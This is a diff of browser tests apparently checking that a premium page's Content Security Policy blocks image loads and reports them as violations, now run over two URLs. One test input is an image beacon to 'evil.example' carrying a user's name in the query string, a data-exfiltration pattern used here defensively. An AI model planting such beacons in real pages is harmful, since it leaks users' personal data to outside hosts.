@@ -62,14 +62,20 @@ test('a page reports web vitals', async ({ page, reports }) => {
   await expect.poll(() => reports).toContainEqual(vital);
 });
 
-test('a page reports violations of its policy without their URL', async ({ page, reports }) => {
-  await openPremium(page);
-  await page.evaluate(() => {
-    new Image().src = 'https://evil.example/?name=jane';
+for (const [code, url] of [
+  ['other', 'https://evil.example/?name=jane'],
+  ['extension', 'chrome-extension://jane/icon.png'],
+] as const) {
+  test(`a page reports that its policy has blocked ${url} as ${code}`, async ({
+    page,
+    reports,
+  }) => {
+    await openPremium(page);
+    await page.evaluate((src) => Object.assign(new Image(), { src }), url);
+    const violation = { ...premiumReport, kind: 'violation', what: 'img-src', code };
+    await expect.poll(() => reports).toContainEqual(violation);
   });
-  const violation = { ...premiumReport, kind: 'violation', what: 'img-src', code: 'other' };
-  await expect.poll(() => reports).toContainEqual(violation);
-});
+}
 
 test.describe('the report of a failure', () => {
   /** The fields of a report that lead to the source. */
